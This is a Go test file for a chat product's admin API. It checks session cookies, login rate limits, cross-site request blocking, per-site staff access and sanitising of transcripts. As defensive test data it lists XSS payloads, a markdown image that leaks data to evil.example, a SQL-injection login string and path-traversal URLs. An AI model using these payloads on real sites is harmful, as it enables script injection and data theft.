package api

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"github.com/innconnect/innconnect/internal/chat"
	"github.com/innconnect/innconnect/internal/sanitize"
	"github.com/innconnect/innconnect/internal/store"
)

const password = "correct horse battery"

func (r *rig) user(email string, role chat.UserRole, sites ...string) chat.User {
	r.t.Helper()
	u, err := r.store.CreateUser(context.Background(), store.NewUser{Email: email, Password: password, Role: role, SiteIDs: sites})
	require.NoError(r.t, err)
	return u
}

func (r *rig) login(email, password string, headers ...string) answer {
	r.t.Helper()
	return r.call("POST", "/api/admin/login", Credentials{Email: email, Password: password}, append([]string{"X-API-Key", ""}, headers...)...)
}

// cookie signs in and returns the header of the session.
func (r *rig) cookie(email, password string) []string {
	r.t.Helper()
	a := r.login(email, password)
	require.Equal(r.t, 200, a.StatusCode, "%s", a.body)
	require.Len(r.t, a.Cookies(), 1)
	return []string{"Cookie", a.Cookies()[0].Name + "=" + a.Cookies()[0].Value}
}

// staff makes a user, signs it in and returns a function that calls with its
// cookie.
func (r *rig) staff(role chat.UserRole, sites ...string) func(method, path string, body any, headers ...string) answer {
	r.t.Helper()
	email := uuid.NewString() + "@example.org"
	r.user(email, role, sites...)
	return r.signedIn(email, password)
}

// signedIn signs in and returns a function that calls with the cookie.
func (r *rig) signedIn(email, password string) func(method, path string, body any, headers ...string) answer {
	r.t.Helper()
	cookie := r.cookie(email, password)
	return func(method, path string, body any, headers ...string) answer {
		r.t.Helper()
		return r.call(method, path, body, append(append([]string{"X-API-Key", ""}, cookie...), headers...)...)
	}
}

func TestSigningInSetsACookieThatScriptsAndOtherSitesCannotUse(t *testing.T) {
	r := newRig(t)
	user := r.user("ana@example.org", chat.UserAgent)
	a := r.login("Ana@Example.org", password)
	require.Equal(t, 200, a.StatusCode)
	var got SignedIn
	a.into(t, &got)
	require.Equal(t, SignedIn{User: userView(user)}, got)
	cookie := a.Cookies()[0]
	require.Equal(t, localCookie, cookie.Name, "http on localhost")
	require.True(t, cookie.HttpOnly)
	require.Equal(t, http.SameSiteStrictMode, cookie.SameSite)
	require.Equal(t, "/", cookie.Path)
	require.Empty(t, cookie.Domain)
	require.NotContains(t, string(a.body), cookie.Value)

	a = r.call("GET", "/api/admin/me", nil, "X-API-Key", "", "Cookie", cookie.Name+"="+cookie.Value)
	require.Equal(t, 200, a.StatusCode)
	a.into(t, &got)
	require.Equal(t, user.ID, got.User.ID)
}

func TestTheCookieIsSecureEverywhereButOnPlainLocalhost(t *testing.T) {
	for _, c := range []struct {
		name, address string
		headers       []string
		secure        bool
	}{
		{"localhost", "http://localhost:8080/", nil, false},
		{"localhost from its own page", "http://LOCALHOST:8080/", []string{"Origin", "http://localhost:8080"}, false},
		{"IPv4 loopback", "http://127.0.0.1/", nil, false},
		{"IPv6 loopback", "http://[::1]:8080/", nil, false},
		{"https on localhost", "https://localhost/", nil, true},
		{"a proxy that says https", "http://localhost:8080/", []string{"X-Forwarded-Proto", "https"}, true},
		{"a proxy that hides the host", "http://localhost:8080/", []string{"Origin", "https://chat.example.com"}, true},
		{"a public host", "http://chat.example.com/", nil, true},
		{"a private address", "http://192.168.1.10:8080/", nil, true},
		{"a name that only begins so", "http://localhost.example.com/", nil, true},
		{"an address in a name", "http://127.0.0.1.example.com/", nil, true},
	} {
		req := httptest.NewRequest("POST", c.address, nil)
		for i := 0; i < len(c.headers); i += 2 {
			req.Header.Set(c.headers[i], c.headers[i+1])
		}
		cookie, err := http.ParseSetCookie(sessionCookie(req, "token"))
		require.NoError(t, err)
		require.Equal(t, c.secure, cookie.Secure, c.name)
		require.Equal(t, map[bool]string{true: secureCookie, false: localCookie}[c.secure], cookie.Name, c.name)
		req.Header.Set("Cookie", cookie.Name+"=token")
		require.Equal(t, "token", sessionToken(req), c.name)
	}
	req := httptest.NewRequest("GET", "https://chat.example.com/", nil)
	req.Header.Set("Cookie", localCookie+"=planted")
	require.Empty(t, sessionToken(req), "a subdomain could set a cookie without the prefix")
}

func TestWrongPasswordsAndUnknownUsersGetTheSameAnswer(t *testing.T) {
	r := newRig(t)
	r.user("ana@example.org", chat.UserAgent)
	var bodies []map[string]any
	for _, email := range []string{"ana@example.org", "nobody@example.org", "not an address", "' or 1=1 --"} {
		a := r.login(email, "wrong horse battery")
		require.Equal(t, 401, a.StatusCode)
		require.Empty(t, a.Cookies())
		var body map[string]any
		require.NoError(t, json.Unmarshal(a.body, &body))
		delete(body, "request_id")
		bodies = append(bodies, body)
	}
	require.Equal(t, "sign_in_failed", bodies[0]["code"])
	for _, body := range bodies {
		require.Equal(t, bodies[0], body)
	}
	require.NotContains(t, r.log.String(), "ana@example.org")
	require.NotContains(t, r.log.String(), "wrong horse")
}

func TestTheEleventhAttemptIsRefusedWhateverTheClientSaysItsAddressIs(t *testing.T) {
	r := newRig(t)
	r.user("ana@example.org", chat.UserAgent)
	for i := range 10 {
		require.Equal(t, 401, r.login("nobody@example.org", "wrong", "X-Forwarded-For", "192.0.2."+strconv.Itoa(i)).StatusCode)
	}
	a := r.login("ana@example.org", password, "X-Forwarded-For", "192.0.2.99", "Forwarded", "for=192.0.2.99", "X-Real-IP", "192.0.2.99")
	require.Equal(t, 429, a.StatusCode)
	require.Equal(t, "rate_limited", a.code(t))
	wait, err := strconv.Atoi(a.Header.Get("Retry-After"))
	require.NoError(t, err)
	require.Greater(t, wait, 14*60)
	require.LessOrEqual(t, wait, 15*60)
}

func TestSigningOutEndsTheSession(t *testing.T) {
	r := newRig(t)
	r.user("ana@example.org", chat.UserAgent)
	cookie := r.login("ana@example.org", password).Cookies()[0]
	header := cookie.Name + "=" + cookie.Value
	a := r.call("POST", "/api/admin/logout", nil, "X-API-Key", "", "Cookie", header)
	require.Equal(t, 204, a.StatusCode)
	require.Equal(t, cookie.Name, a.Cookies()[0].Name)
	require.Empty(t, a.Cookies()[0].Value)
	require.Negative(t, a.Cookies()[0].MaxAge)
	require.Equal(t, 401, r.call("GET", "/api/admin/me", nil, "X-API-Key", "", "Cookie", header).StatusCode)
}

func TestASessionThatHasRunOutOpensNothing(t *testing.T) {
	r := newRig(t)
	agent := r.staff(chat.UserAgent)
	require.Equal(t, 200, agent("GET", "/api/admin/me", nil).StatusCode)
	r.exec(`update user_sessions set expires_at = now()`)
	require.Equal(t, "sign_in_required", agent("GET", "/api/admin/me", nil).code(t))
}

func TestOtherSitesCanNeitherCallNorReadStaffRoutes(t *testing.T) {
	r := newRig(t)
	r.user("ana@example.org", chat.UserAgent)
	agent := r.staff(chat.UserAgent, r.site.ID)
	before := r.content()
	for name, headers := range map[string][]string{
		"cross-site":                {"Sec-Fetch-Site", "cross-site"},
		"same-site":                 {"Sec-Fetch-Site", "same-site"},
		"foreign origin":            {"Origin", "https://evil.example"},
		"a site's own origin":       {"Origin", shop},
		"null":                      {"Origin", "null"},
		"another port":              {"Origin", "http://127.0.0.1:1"},
		"a claim that does not fit": {"Sec-Fetch-Site", "cross-site", "Origin", r.server.URL},
	} {
		for _, a := range []answer{r.login("ana@example.org", password, headers...), agent("POST", "/api/admin/logout", nil, headers...)} {
			require.Equal(t, 403, a.StatusCode, name)
			require.Equal(t, "cross_site_request", a.code(t), name)
			require.Empty(t, a.Cookies(), name)
		}
	}
	require.Equal(t, before, r.content())

	all, err := endpoints()
	require.NoError(t, err)
	for _, e := range all {
		if !e.staff {
			continue
		}
		path := e.about(uuid.NewString())
		preflight := r.call("OPTIONS", path, nil, "X-API-Key", "", "Origin", shop, "Access-Control-Request-Method", e.method)
		require.Equal(t, 405, preflight.StatusCode)
		for _, a := range []answer{preflight, agent(e.method, path, nil, "Origin", shop)} {
			for name := range a.Header {
				require.False(t, strings.HasPrefix(name, "Access-Control-"), "%s: %s", e.name, name)
			}
		}
	}
	require.Equal(t, 200, r.login("ana@example.org", password, "Origin", r.server.URL).StatusCode, "the panel's own page")
	require.Equal(t, 204, agent("POST", "/api/admin/logout", nil, "Sec-Fetch-Site", "same-origin").StatusCode)
}

func TestAnAgentSeesTheAssignedSitesAlone(t *testing.T) {
	r := newRig(t)
	other, otherKey := otherSite(t, r)
	own := r.session("")
	a := r.call("POST", "/api/chat/session", nil, "X-API-Key", otherKey)
	require.Equal(t, 201, a.StatusCode)
	var foreign Session
	a.into(t, &foreign)

	for name, u := range map[string]struct {
		call     func(string, string, any, ...string) answer
		sites    []string
		sessions []string
	}{
		"admin":         {r.staff(chat.UserAdmin), []string{r.site.ID, other.ID}, []string{own.ID, foreign.ID}},
		"agent":         {r.staff(chat.UserAgent, r.site.ID), []string{r.site.ID}, []string{own.ID}},
		"viewer":        {r.staff(chat.UserViewer, other.ID), []string{other.ID}, []string{foreign.ID}},
		"agent of none": {r.staff(chat.UserAgent), []string{}, []string{}},
	} {
		var sites SitePage
		u.call("GET", "/api/admin/sites", nil).into(t, &sites)
		ids := []string{}
		for _, site := range sites.Data {
			ids = append(ids, site.ID)
		}
		require.ElementsMatch(t, u.sites, ids, name)

		ids = []string{}
		for _, filter := range []string{"?site=" + r.site.ID, "?site=" + upper(other.ID), "?site=" + uuid.NewString()} {
			var page ConversationPage
			u.call("GET", "/api/admin/conversations"+filter, nil).into(t, &page)
			for _, c := range page.Data {
				ids = append(ids, c.ID)
			}
		}
		require.ElementsMatch(t, u.sessions, ids, name)

		missing := u.call("GET", "/api/admin/conversations/"+uuid.NewString(), nil)
		require.Equal(t, 404, missing.StatusCode)
		for _, session := range []string{own.ID, foreign.ID} {
			a := u.call("GET", "/api/admin/conversations/"+session, nil)
			if strings.Contains(strings.Join(u.sessions, " "), session) {
				require.Equal(t, 200, a.StatusCode, name)
				continue
			}
			require.Equal(t, 404, a.StatusCode, name)
			require.Equal(t, withoutRequestID(t, missing), withoutRequestID(t, a), name)
		}
	}
}

func withoutRequestID(t testing.TB, a answer) map[string]any {
	t.Helper()
	var body map[string]any
	require.NoError(t, json.Unmarshal(a.body, &body))
	delete(body, "request_id")
	return body
}

func TestPagesOfConversationsFollowTheCursor(t *testing.T) {
	r := newRig(t)
	agent := r.staff(chat.UserAgent, r.site.ID)
	var want, got []string
	for range 5 {
		want = append([]string{r.session("").ID}, want...)
	}
	path := "/api/admin/conversations?status=active&limit=2"
	for next := path; next != ""; {
		var page ConversationPage
		agent("GET", next, nil).into(t, &page)
		require.LessOrEqual(t, len(page.Data), 2)
		for _, c := range page.Data {
			got = append(got, c.ID)
		}
		next = ""
		if page.NextCursor != nil {
			next = path + "&after=" + *page.NextCursor
		}
	}
	require.Equal(t, want, got)
	for _, query := range []string{"limit=0", "limit=101", "limit=x", "after=x", "after=1_" + strings.Repeat("-", 36), "site=x", "status=open", "reason=none",
		"after=9999999999999999_" + strings.Repeat("-", 36), "site=%00", "status=active&status=closed"} {
		a := agent("GET", "/api/admin/conversations?"+query, nil)
		require.Equal(t, 400, a.StatusCode, query)
		require.Equal(t, "invalid_request", a.code(t), query)
	}
}

// hostile are texts that would do harm where they are taken for markup.
var hostile = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg/onload=alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`,
	`[click](javascript:alert(1))`, `![x](https://evil.example/?q=secret)`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<style>*{display:none}</style>`, `</textarea><script>alert(1)</script>`, `{{constructor.constructor('alert(1)')()}}`,
}

func TestATranscriptCarriesSanitisedHTMLAndHowAnswersCameAbout(t *testing.T) {
	r := newRig(t, func(o *Options) {
		o.TemporalUIURL, o.TemporalNamespace = "http://temporal.example:8233/", "hotel chats"
	})
	agent := r.staff(chat.UserAgent, r.site.ID)
	ctx := context.Background()
	session, err := r.store.CreateSession(ctx, store.NewSession{SiteID: r.site.ID, VisitorName: hostile[0], VisitorEmail: "ann@example.com", PageURL: "https://shop.example/a"})
	require.NoError(t, err)
	for i, text := range hostile {
		m, _, err := r.store.AddVisitorMessage(ctx, store.NewVisitorMessage{SiteID: r.site.ID, SessionID: session.ID, ClientMessageID: strconv.Itoa(i), Content: text})
		require.NoError(t, err)
		k := chat.TurnKey{SiteID: r.site.ID, SessionID: session.ID, TurnID: m.ID}
		clean, err := sanitize.Input(text)
		if chat.CodeOf(err) != chat.CodeMessageEmpty { // nothing but markup
			require.NoError(t, err)
		}
		require.NoError(t, r.store.StartTurn(ctx, k, []chat.CleanedMessage{{ID: m.ID, Text: clean, HTML: sanitize.VisitorHTML(clean)}}))
		passages := []chat.Passage{{ArticleID: uuid.NewString(), ExternalID: "pets", Title: text, Heading: text, Text: text, URL: "https://shop.example/pets", Score: 0.75}, {ArticleID: uuid.NewString(), ExternalID: "b", Title: "B", Text: "b", Score: 0.25}}
		require.NoError(t, r.store.SaveRetrieval(ctx, k, passages, 0.6))
		require.NoError(t, r.store.SavePrompt(ctx, k, chat.ProviderMistral, chat.Prompt{Messages: []chat.PromptMessage{{Role: "system", Content: "the secret prompt"}}}))
		require.NoError(t, r.store.FinishDraft(ctx, k, 1, chat.Answer{Markdown: text, Cited: []int{0}}, chat.Generation{Model: "small", InputTokens: 7, OutputTokens: 3}))
		markdown, html := sanitize.Output(text, func(string) bool { return false })
		_, err = r.store.DeliverReply(ctx, k, chat.Reply{Role: chat.RoleAssistant, Content: markdown, HTML: html})
		require.NoError(t, err)
	}
	a := agent("GET", "/api/admin/conversations/"+session.ID, nil)
	require.Equal(t, 200, a.StatusCode, "%s", a.body)
	require.Equal(t, "application/json", a.Header.Get("Content-Type"))
	require.NotContains(t, string(a.body), "<", "a page that took the JSON for markup would find none")
	require.NotContains(t, string(a.body), "the secret prompt")
	var got Conversation
	a.into(t, &got)
	require.Equal(t, "http://temporal.example:8233/namespaces/hotel%20chats/workflows/chat-session:"+session.ID, *got.WorkflowURL)
	require.Equal(t, SiteName{ID: r.site.ID, Name: "Shop"}, got.Site)
	require.Equal(t, "ann@example.com", *got.VisitorEmail)
	require.Equal(t, "https://shop.example/a", *got.PageURL)
	require.Len(t, got.Messages, 2*len(hostile))
	require.Len(t, got.Turns, len(hostile))
	for i, m := range got.Messages {
		if m.Role == MessageRoleVisitor {
			require.Equal(t, hostile[i/2], m.Content, "as it was written")
		}
		require.NotRegexp(t, `(?i)<(script|img|svg|iframe|style|textarea)|<[^>]*\son\w+=|javascript:[^<]*"|href="(data|javascript):`, m.HTML)
	}
	for i, turn := range got.Turns {
		require.Equal(t, []string{got.Messages[2*i].ID}, turn.MessageIds)
		require.Equal(t, got.Messages[2*i+1].ID, *turn.ReplyID)
		require.Equal(t, []any{"mistral", "small", 7, 3}, []any{*turn.Provider, *turn.Model, turn.InputTokens, turn.OutputTokens})
		require.InDelta(t, 0.6, *turn.Answerability, 1e-9)
		require.True(t, turn.Passages[0].Cited)
		require.False(t, turn.Passages[1].Cited)
		require.InDelta(t, 0.75, turn.Passages[0].Score, 1e-9)
		require.Nil(t, turn.Passages[1].URL)
	}
	require.NotContains(t, r.log.String(), "alert(1)")

	var page ConversationPage
	agent("GET", "/api/admin/conversations", nil).into(t, &page)
	require.NotContains(t, page.Data[0].FirstWords, "\x00")
	require.Equal(t, hostile[0], *page.Data[0].VisitorName)
}

func TestWithoutTheAddressOfTheTemporalUIThereIsNoLink(t *testing.T) {
	r := newRig(t)
	var got Conversation
	r.staff(chat.UserAdmin)("GET", "/api/admin/conversations/"+r.session("").ID, nil).into(t, &got)
	require.Nil(t, got.WorkflowURL)
	require.Empty(t, got.Messages)
	for _, address := range []string{"temporal:8233", "javascript:alert(1)", "http://user@temporal.example"} {
		_, err := New(Options{TemporalUIURL: address})
		require.Error(t, err, address)
	}
}

func TestTheAdminPanelLoadsNothingFromElsewhereAndCannotBeFramed(t *testing.T) {
	r := newRig(t)
	get := func(path string) answer {
		t.Helper()
		res, err := r.server.Client().Get(r.server.URL + path)
		require.NoError(t, err)
		defer res.Body.Close()
		body, err := io.ReadAll(res.Body)
		require.NoError(t, err)
		require.Equal(t, "nosniff", res.Header.Get("X-Content-Type-Options"))
		return answer{res, body}
	}
	for _, path := range []string{"/admin", "/admin/", "/admin/inbox/" + uuid.NewString()} {
		page := get(path)
		require.Equal(t, 200, page.StatusCode, path)
		require.Equal(t, "text/html; charset=utf-8", page.Header.Get("Content-Type"))
		csp := page.Header.Get("Content-Security-Policy")
		for _, part := range []string{"default-src 'none'", "script-src 'self';", "style-src 'self'", "connect-src 'self'", "img-src 'self' data:",
			"frame-ancestors 'none'", "form-action 'self'", "base-uri 'none'"} {
			require.Contains(t, csp, part)
		}
		require.NotContains(t, csp, "unsafe")
		require.NotRegexp(t, `(?i)(src|href)="(https?:)?//|<style|\sstyle=|\son\w+=|<script>`, string(page.body))
	}
	for _, path := range []string{"/admin/assets/none.js", "/admin/assets/../../server.go", "/admin/assets/%2e%2e/admin.go"} {
		require.NotContains(t, string(get(path).body), "package api", path)
	}
}
